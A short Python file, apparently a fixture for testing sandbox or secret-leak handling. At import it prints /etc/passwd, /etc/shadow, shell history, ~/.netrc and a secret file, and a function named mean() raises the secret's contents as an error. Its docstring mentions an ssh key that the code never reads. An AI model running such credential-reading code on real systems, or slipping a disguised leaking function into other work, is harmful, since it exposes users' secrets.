"""The home folder, an ssh key and the system's password files are read and printed."""

import os

for place in ("@SECRET@", "/etc/passwd", "/etc/shadow", *map(os.path.expanduser, ("~/.bash_history", "~/.netrc"))):
    try:
        with open(place) as file:
            print(file.read())
    except OSError as error:
        print(error)


def mean(x):
    with open("@SECRET@") as file:
        raise ValueError(file.read())
